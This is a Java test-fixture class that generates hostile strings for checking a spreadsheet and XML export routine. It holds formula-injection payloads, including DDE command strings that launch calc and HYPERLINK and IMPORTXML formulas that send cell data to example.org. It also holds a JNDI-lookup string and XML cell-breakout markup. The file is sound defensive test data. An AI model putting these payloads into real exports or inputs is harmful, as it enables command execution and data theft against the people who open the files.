package org.almoner.export;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Texts that somebody would like to see computed, or that break out of their cell. */
final class HostileTexts {

    private static final List<String> FORMULAS =
            List.of(
                    "1+1",
                    "cmd|' /C calc'!A0",
                    "HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
                    "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
                    "SUM(1,2)*cmd|'/C calc'!A0");

    /** What makes a formula of what follows, somewhere. */
    private static final List<String> SIGNS =
            List.of(
                    "=", "+", "-", "@", ";", "|", "%", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹢",
                    "﹦");

    private static final List<String> BEFORE = List.of("", " ", "\u00a0", "\ufeff", "\u200b");

    /** Beside formulas: quotes, line ends, markup, what XML cannot hold or would read otherwise. */
    private static final List<String> OTHERS =
            List.of(
                    "\"",
                    "\",=1+1,\"",
                    "a\"b\"\"c",
                    "a,b;c|d",
                    "first\r\nsecond",
                    "first\nsecond\rthird",
                    "  kept  ",
                    "</t></is></c><c r=\"A1\"><f>1+1</f></c>",
                    "<![CDATA[=1+1]]>",
                    "&lt;&amp;&#61;1+1",
                    "_x003D_1+1",
                    "_x005F_x003D_",
                    "\u0001\u0007\u001b[2J",
                    "\u0085\u2028=1",
                    "\ufffe\uffff",
                    "😀=1+1",
                    "שלום مرحبا",
                    "\u202e=1+1",
                    "'=1+1",
                    "''",
                    "NULL",
                    "null",
                    "TRUE",
                    "00123",
                    "1E9",
                    "2026-11-26",
                    "{\"a\":1}",
                    "\\\"\\u003d",
                    "${jndi:ldap://example.org/a}",
                    "x".repeat(5_000));

    private HostileTexts() {}

    static List<String> all() {
        List<String> texts = new ArrayList<>(OTHERS);
        for (String before : BEFORE) {
            for (String sign : SIGNS) {
                Stream.of(FORMULAS.get(0), FORMULAS.get(texts.size() % FORMULAS.size()))
                        .forEach(formula -> texts.add(before + sign + formula));
                texts.add(before + sign);
            }
        }
        return texts.stream().distinct().toList();
    }
}
